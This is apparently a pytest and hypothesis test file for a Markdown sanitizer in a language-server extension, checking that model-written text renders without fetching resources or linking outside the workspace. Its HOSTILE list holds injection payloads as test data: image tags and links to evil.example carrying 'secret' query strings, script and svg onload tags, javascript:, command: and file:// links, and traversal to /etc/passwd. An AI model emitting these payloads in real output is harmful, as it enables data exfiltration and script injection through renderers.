"""What a model writes is read, not obeyed: nothing in it is fetched when it is drawn, and no link leads out of the workspace.

The cleaned text is drawn by a Markdown reader of other hands, and its HTML is looked at.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lsp_server.actions.checks import LEFT_OUT
from lsp_server.actions.markdown import LONGEST_LINE, Cleaner, clean
from tests.drawn import check_is_harmless, drawn
from tests.processor import seconds

HARMLESS = {
    "code spans stay": "Use `List<int>` and `a[b](c)`.",
    "a fence stays": "```python\nx = a < b  # ![no](image)\n```",
    "a link to a file stays": "See [the parser](src/parse.py:12) and [this](src/a.py#L3).",
    "headings and lists stay": "# Title\n\n- one\n- two\n\n1. **bold**\n",
}
HOSTILE = [
    "| a |\n| - |\n| `x|<img src=y>` |",
    "a | b\n:-|-:\n`x | <img src=y>`",
    "> a | b\n> -|-\n> `x|<img src=y>`",
    "_mailto:x@evil.example_",
    "https://evil.example/\\\\\\`<img src=x>`<img src=y>",
    "`https://evil.example/?a|b`",
    "\\https://evil.example/?q=secret",
    "https://evil.example/?q=``x``",
    "``x``https://evil.example/?q=secret",
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[x]: https://evil.example\n\n[x]",
    "<img src=https://evil.example/a.png>",
    "<img\nsrc='https://evil.example/a.png'>",
    "<script>alert(1)</script>",
    "<a href='command:x'>y</a>",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example/secret",
    "[x](https://evil.example)",
    "[x](//evil.example/a)",
    "[x](command:workbench.action.terminal.new)",
    "[x](vscode://file/etc/passwd)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](<https://evil.example>)",
    "[x]( https://evil.example )",
    "[x](/etc/passwd)",
    "[x](../../x:y)",
    "[x](src/../../../../etc/passwd#L1)",
    "[x](./src/..#L1)",
    "a ` b\n` <img src=x> `",
    "- a\n  ```\n<img src=https://evil.example/a.png>",
    "> ```\n<img src=https://evil.example/b.png>",
    "~~~\n![x](https://evil.example)\n~~~",
    "```\ncode\n````\n<img src=x>",
    "``` `x` ```\n<img src=x>\n```",
    "\\![x](https://evil.example/a.png)",
    "\\\\![x](https://evil.example/a.png)",
    "\\<img src=x>",
    "!\\[x](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "\\`<img src=x>\\`",
    "\\\\`<img src=x>`<img src=y>",
    "`` ` <img src=x> ` ``\n`<img src=y>",
    "    ![x](https://evil.example/indented.png)",
    "<!-- --><img src=x>",
    "&lt;img src=x&gt;",
    "| a |\n| - |\n| ![x](https://evil.example/t.png) |",
    "[x][]\n\n[x]:\nhttps://evil.example",
    "mailto:x@evil.example",
    "[a]\n(https://evil.example)",
    "[x](\nhttps://evil.example)",
    "[x](a.py 'https://evil.example')",
    "`a\n\n![x](https://evil.example/p.png)`",
    "\t```\n<img src=x>\n\t```",
    "1. ```\n<img src=x>",
    "```\u200b\n<img src=x>\n```",
    "<svg/onload=x>",
    "![x](data:image/png;base64,AAAA)",
    "<iframe src=//evil.example>",
    "[x](file:///etc/passwd)",
    "\x00<img src=x>",
    "[x](smb://evil.example/share)",
    "!\u200b[x](https://evil.example)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_fetched_and_no_link_leads_out(text: str) -> None:
    check_is_harmless(drawn(clean(text)))
    check_is_harmless(drawn(clean(f"Before.\n\n{text}\n\nAfter, with `code` and *more*.")))


@settings(deadline=None, max_examples=300)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "`", "``", "```", "\n", "\n\n", "- ", "> ", "    ", "\\", "text"]), max_size=6
    ).map("".join)
)
def test_no_mixture_of_them_does_either(text: str) -> None:
    check_is_harmless(drawn(clean(text)))


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize("target", ["src/../../../../etc/passwd#L1", "a/..:3"])
def test_a_link_that_climbs_is_text(target: str) -> None:
    assert clean(f"[x]({target})") == f"[x] ({target})"


@pytest.mark.parametrize("sign", ["\\", "`", "` `` ", "\\`", "![", "](", "http:", "\n", "\u200b"])
def test_the_work_grows_with_the_length(sign: str) -> None:
    _check_is_linear(clean, sign)


@pytest.mark.parametrize("sign", ["\n", " \n", "#", "#\n", "# the rest "])
def test_looking_for_what_is_left_out_grows_with_the_length(sign: str) -> None:
    _check_is_linear(lambda text: list(LEFT_OUT.finditer(text)), sign)


def _check_is_linear(work: Callable[[str], object], sign: str) -> None:
    """Four times the text is four times the work; sixteen if it were quadratic. Too short to be measured is fine, too."""

    def cost(count: int) -> float:
        text = (sign * count)[:count]
        return seconds(lambda: work(text))

    assert cost(100_000) < max(0.5, 10 * cost(25_000))


def test_a_line_is_cut_where_it_is_too_long() -> None:
    assert [len(line) for line in clean("a" * (2 * LONGEST_LINE + 1)).split("\n")] == [LONGEST_LINE, LONGEST_LINE, 1]


def test_bidirectional_controls_are_spelt_out() -> None:
    assert clean("a \u202e b") == "a U+202E b"


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text("`[](!<>:\n ab", max_size=12), max_size=6))
def test_pieces_come_to_the_same_as_the_whole(pieces: list[str]) -> None:
    cleaner = Cleaner()
    grown = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.finish()
    assert grown == clean("".join(pieces))
